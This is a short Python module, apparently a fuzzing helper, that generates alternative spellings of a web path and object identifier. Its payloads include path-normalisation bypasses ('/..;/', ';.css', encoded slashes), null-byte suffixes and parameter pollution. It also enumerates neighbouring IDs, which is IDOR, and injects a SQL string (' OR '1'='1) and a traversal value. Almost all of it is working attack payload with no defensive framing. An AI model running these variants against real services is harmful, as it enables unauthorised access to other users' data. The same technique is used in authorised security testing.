"""Other spellings of an address: what proxies, routers and file systems are known to take for the same."""

import urllib.parse


def spellings(address, identity):
    neighbours = beside(identity)
    first = f"%{ord(identity[0]):02x}"
    encoded = "".join(f"%{ord(sign):02X}" for sign in identity)
    yield from (
        f"{address}/",
        f"{address}//",
        f"{address}.",
        f"{address}/.",
        f"{address}/..;/",
        f"{address};.css",
        f"{address}.css",
        f"{address}.json",
        f"{address}%00",
        f"{address}%0a",
        f"{address}%20",
        f"{address}%23",
        f"{address}?",
        f"{address}?id={identity}",
        f"{address}?id={identity}&id={identity}",
        f"/{address}",
        f"/.{address}",
        f"/x/..{address}",
        f"{address}/../{address.rsplit('/', 1)[1]}",
        address.replace("/", "//"),
        address.replace("/", "/./"),
        address.replace("/", "%2f", 2),
    )
    for other in (
        identity.upper(),
        first + identity[1:],
        encoded,
        f"{identity}%",
        f" {identity}".replace(" ", "%20"),
        f"0x{identity}",
        f"{identity}-",
        f"+{identity}",
        f"{identity}%2e",
        f"{identity},{identity}",
        f"{identity}%27--",
        f"{identity}%25",
        "*",
        "%",
        urllib.parse.quote("' OR '1'='1"),
        "..%2f..%2fkey",
        *neighbours,
    ):
        yield address.replace(identity, other)


def beside(identity):
    """The identities before and behind it."""
    if all(sign in "0123456789abcdef" for sign in identity):
        base, kind = (10, "d") if identity.isdigit() else (16, "x")
        return [format(int(identity, base) + step, f"0{len(identity)}{kind}") for step in (-1, 1, 2)]
    head, _, tail = identity.rpartition("-")
    return [f"{head}-{int(tail) + step:0{len(tail)}d}" for step in (-1, 1)] if tail.isdigit() else []
